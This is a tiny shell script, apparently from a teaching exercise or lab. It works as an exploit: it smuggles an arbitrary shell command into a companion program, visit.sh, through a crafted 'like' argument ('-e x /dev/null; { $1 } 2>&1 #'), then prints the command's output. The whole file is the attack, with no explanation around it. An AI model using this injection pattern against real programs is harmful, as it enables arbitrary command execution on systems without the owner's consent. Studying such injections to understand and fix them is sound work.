#!/bin/sh
# A customer who has found the hole: sends COMMAND through it and prints what comes back.
# usage: sh attack.sh 'COMMAND'
cd "$(dirname "$0")"
exec sh visit.sh like "-e x /dev/null; { $1
} 2>&1 #"
